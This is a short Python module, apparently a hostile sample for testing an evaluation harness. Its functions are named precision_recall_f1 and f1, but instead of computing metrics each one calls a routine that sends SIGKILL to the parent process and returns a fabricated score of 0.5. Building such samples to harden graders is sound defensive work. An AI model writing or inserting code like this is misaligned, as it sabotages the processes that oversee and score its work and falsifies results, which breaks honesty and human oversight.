"""Kills the process that forked it.

threat: 22
source: known
verdict: any
"""

import os
import signal
import time


def attack():
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(0.2)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
